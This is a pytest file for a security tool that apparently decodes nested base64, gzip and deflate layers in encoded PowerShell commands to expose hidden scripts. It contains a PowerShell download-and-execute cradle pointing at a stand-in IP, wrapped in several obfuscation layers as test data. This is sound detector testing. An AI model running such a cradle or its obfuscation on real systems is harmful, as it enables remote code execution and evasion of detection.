"""Base64 decoded, and the chance that it was none."""

from __future__ import annotations

import base64
import gzip
import random
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gamekeeper.questions.encoded import layers as base64_layers
from gamekeeper.questions.encoded.layers import (
    DEEPEST,
    MOST_LAYERS,
    Confidence,
    decoded,
    kind_of,
    layers,
    read,
)

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"


def coded(data: bytes | str) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def wide(text: str) -> str:
    return coded(text.encode("utf-16-le"))


def test_an_encoded_command_is_certain_even_when_it_is_short() -> None:
    (layer,) = layers(f"powershell -e {wide('whoami')}")
    assert (layer.text, layer.layers, layer.kind) == ("whoami", ("base64", "utf-16le"), "script")
    assert layer.confidence is Confidence.CERTAIN


def test_layers_inside_each_other_are_all_found() -> None:
    inner = f"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{wide(SCRIPT)}'))"
    packed = coded(gzip.compress(inner.encode(), mtime=0))
    outer = f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'))"
    first, second, third = layers(f"cmd /c powershell -enc {wide(outer)}")
    assert first.text == outer
    assert second.layers == ("base64", "utf-16le", "base64", "gzip", "utf-8")
    assert (third.text, third.depth) == (SCRIPT, 3)
    assert third.urls == ("http://198.51.100.7/a",)


def test_compressed_data_without_a_head_is_found_where_the_text_speaks_of_it() -> None:
    engine = zlib.compressobj(wbits=-15)
    raw = coded(engine.compress(SCRIPT.encode()) + engine.flush())
    (layer,) = layers(f"IO.Compression.DeflateStream FromBase64String('{raw}')")
    assert (layer.text, layer.layers) == (SCRIPT, ("base64", "deflate", "utf-8"))
    zlibbed = coded(zlib.compress(SCRIPT.encode()))
    assert [layer.text for layer in layers(zlibbed)] == [SCRIPT]


def test_programs_and_other_files_are_told_by_their_heads() -> None:
    head = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(40)
    (layer,) = layers(f"-----BEGIN CERTIFICATE-----\n{coded(head)}\n-----END CERTIFICATE-----")
    assert (layer.kind, layer.text, layer.confidence) == ("pe", None, Confidence.CERTAIN)
    assert read(b"MZ only").bits < read(head).bits
    assert read(b"\x89PNG\r\n\x1a\n....").kind == "png"
    assert read(b"\xff\x00\xfe\x01").kind == "binary"


def test_data_that_something_points_at_is_found_whatever_it_is() -> None:
    noise = random.Random(1).randbytes(60)
    (layer,) = layers(f"FromBase64String('{coded(noise)}')")
    assert (layer.kind, layer.confidence) == ("binary", Confidence.POSSIBLE)
    assert list(layers(coded(noise))) == []


@pytest.mark.parametrize(
    "text",
    [
        "MicrosoftWindowsPowerShellOperational",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "VVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVV",
        "SYSTEM/CurrentControlSet/Services/Tcpip/Parameters",
        "GetProcessWindowStationAndDesktopInformationForUser",
        "powershell -ep bypass -ExecutionPolicy RemoteSigned -Enable MyFeatures",
        "-e 9Cuyx1fSSF5K",
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/",
    ],
)
def test_words_that_happen_to_be_valid_are_no_finds(text: str) -> None:
    assert list(layers(text)) == []


def test_a_thousand_random_identifiers_give_no_find() -> None:
    source = random.Random(7)
    signs = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    words = ("".join(source.choices(signs, k=source.randint(16, 60))) for _ in range(1_000))
    assert [layer for word in words for layer in layers(word)] == []


def test_a_bomb_is_cut_and_said_to_be(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(base64_layers, "MOST_BYTES", 10_000)
    bomb = coded(gzip.compress(SCRIPT.encode() * 10_000, mtime=0))
    (layer,) = layers(f"FromBase64String('{bomb}')")
    assert layer.is_cut
    assert len(layer.data) == 10_000


def test_depth_and_number_of_layers_are_bounded() -> None:
    text = "the innermost text of all"
    for _ in range(DEEPEST + 4):
        text = coded(text)
    assert max(layer.depth for layer in layers(text)) == DEEPEST
    many = " ".join(coded(f"this is text number {at:04}") for at in range(200))
    assert len(list(layers(coded(many)))) == MOST_LAYERS


def test_text_of_other_scripts_is_read_and_a_cut_end_is_no_matter() -> None:
    text = "\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440: whoami"
    assert [layer.text for layer in layers(f"-enc {wide(text)}")] == [text]
    whole = coded(SCRIPT)
    (layer,) = layers(whole[:-5])
    assert layer.text is not None
    assert SCRIPT.startswith(layer.text)


def test_kinds_of_text() -> None:
    assert kind_of("@echo off") == "script"
    assert kind_of("go to https://example.org/x now") == "url"
    assert kind_of("nothing of note") == "text"


def test_signs_that_are_not_printable_do_not_hide_a_text() -> None:
    text = "whoami \x1b[2J; dir"
    (layer,) = layers(f"-enc {wide(text)}")
    assert layer.confidence is Confidence.CERTAIN
    assert next(layers(f"FromBase64String('{coded('dir /s /b')}')")).text == "dir /s /b"


@given(st.binary(min_size=1, max_size=40))
def test_decoding_undoes_encoding(data: bytes) -> None:
    assert decoded(base64.b64encode(data).rstrip(b"=")) == data
    assert decoded(base64.urlsafe_b64encode(data).rstrip(b"=")) == data


@given(st.binary(max_size=200))
def test_any_bytes_can_be_read(data: bytes) -> None:
    assert read(data).kind
    assert all(layer.confidence for layer in layers(f"FromBase64String('{coded(data)}')"))
